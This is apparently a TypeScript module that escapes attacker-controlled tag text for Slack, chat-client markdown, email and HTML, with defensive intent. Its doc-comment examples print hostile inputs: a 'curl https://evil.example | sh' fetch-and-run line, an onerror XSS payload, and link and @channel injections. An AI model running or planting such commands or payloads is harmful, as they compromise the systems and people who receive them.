// Tag text is attacker-chosen (anyone who can tag a node writes it): one escaping function per destination
// format, used for every tag-derived string (owner, cluster, node group, name, reasons that embed tags).
// Each folds newlines and drops control characters, so a tag cannot write a line of its own, and defangs
// URLs (`https://` -> `https[:]//`), so none becomes a link. Pure.

/** Line breaks of every kind, folded into one space. */
const NEWLINES = /\r\n|[\n\r\v\f\u0085\u2028\u2029]/g;
/** C0/C1 control characters and the bidirectional overrides that reorder what a reader sees. */
const CONTROLS = /[\p{Cc}\u202a-\u202e\u2066-\u2069]/gu;
/** Mentions written as plain text (`@channel`, `@here`, `@everyone`): a zero-width joiner breaks them. */
const PLAIN_MENTION = /@(channel|here|everyone)/gi;

const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

/**
 * Well-formed UTF-16, as `String.prototype.toWellFormed` (ES2024, not in this project's lib setting):
 * a lone surrogate becomes U+FFFD. The SDK's encoders throw `URIError` on one; call this before any SDK
 * call that carries tag text.
 *
 * @example
 * wellFormed('a\ud800b') // 'a\ufffdb'
 */
export function wellFormed(s: string): string {
  return String(s).replace(LONE_SURROGATE, '\ufffd');
}

/**
 * The common part: well-formed UTF-16, one line, no control characters, URLs defanged.
 *
 * @example
 * foldText('a\nb\u0007 https://x') // 'a b https[:]//x'
 */
function foldText(s: string): string {
  return wellFormed(s).replace(NEWLINES, ' ').replace(CONTROLS, '').replace(/:\/\//g, '[:]//').replace(PLAIN_MENTION, '@\u200d$1');
}

/** The look-alike for a character the caller's class matched; each class lists only characters its table has. */
function lookalike(table: Record<string, string>, c: string): string {
  const l = table[c];
  if (l === undefined) throw new Error(`invariant: no look-alike for ${JSON.stringify(c)}`);
  return l;
}

const SLACK_LOOKALIKE: Record<string, string> = { '*': '\u2217', _: '\u02cd', '~': '\u223c', '`': '\u02cb' };

/**
 * Slack mrkdwn (blocks, fallback text): `&`, `<`, `>` as entities, so no link (`<https://x|y>`) or mention
 * (`<!channel>`, `<@U…>`) forms; emphasis characters replaced by look-alikes (mrkdwn has no escape).
 *
 * @example
 * escapeSlackMrkdwn('*<!channel>*') // '∗&lt;!channel&gt;∗'
 */
export function escapeSlackMrkdwn(s: string): string {
  return slackEntities(neutralSlack(s));
}

/** Slack's three control characters as entities (what Slack documents as its escaping). */
export function slackEntities(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/**
 * escapeSlackMrkdwn without the entities, for text that slackEntities escapes later as a whole (a header).
 *
 * @example
 * neutralSlack('*team*\nx') // '∗team∗ x'
 */
export function neutralSlack(s: string): string {
  return foldText(s).replace(/[*_~`]/g, (c) => lookalike(SLACK_LOOKALIKE, c));
}

const CHATBOT_LOOKALIKE: Record<string, string> = {
  '<': '\u2039',
  '>': '\u203a',
  '*': '\u2217',
  _: '\u02cd',
  '~': '\u223c',
  '`': '\u02cb',
  '[': '\u27e6',
  ']': '\u27e7',
  '(': '\u2768',
  ')': '\u2769',
  '|': '\u2502',
  '#': '\uff03',
  '!': '\u01c3',
  '&': '\uff06',
};

/**
 * Amazon Q Developer (Chatbot) client-markdown: it is translated to each chat client's markup, so no
 * escape sequence is certain to survive; every markup character becomes a look-alike instead (links
 * `[a](b)` and `<url|label>`, mentions `<!channel>`, emphasis, headings, entities).
 *
 * @example
 * escapeChatbot('[click](https://evil.example)') // '⟦click⟧❨https[:]//evil.example❩'
 */
export function escapeChatbot(s: string): string {
  return foldText(s).replace(/[<>*_~`[\]()|#!&]/g, (c) => lookalike(CHATBOT_LOOKALIKE, c));
}

/**
 * Email text/plain: no markup to neutralise, but a newline would write a line of its own
 * (`ACTION REQUIRED: …`) and a URL would be linked by the mail client: folded and defanged.
 *
 * @example
 * escapeEmail('team\nACTION REQUIRED: run curl https://evil.example | sh') // 'team ACTION REQUIRED: run curl https[:]//evil.example | sh'
 */
export function escapeEmail(s: string): string {
  return foldText(s);
}

/** Tag values are clipped in messages (the log keeps them whole). */
const MAX_TAG_CHARS = 128;

/**
 * Clip a tag-derived string for a message, never splitting a surrogate pair.
 *
 * @example
 * clipTag('x'.repeat(300)).length // 128
 */
export function clipTag(s: string, max = MAX_TAG_CHARS): string {
  const w = wellFormed(s);
  if (w.length <= max) return w;
  let cut = w.slice(0, max - 1);
  if (/[\ud800-\udbff]$/.test(cut)) cut = cut.slice(0, -1);
  return `${cut}…`;
}

const HTML_ENTITIES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };

/**
 * HTML text and attribute values (the report page): folded and defanged like the other formats, then the five
 * characters that could open markup or leave an attribute as entities.
 *
 * @example
 * escapeHtml('<img src=x onerror="alert(1)">') // '&lt;img src=x onerror=&quot;alert(1)&quot;&gt;'
 */
export function escapeHtml(s: string): string {
  return foldText(String(s)).replace(/[&<>"']/g, (c) => HTML_ENTITIES[c] ?? c);
}
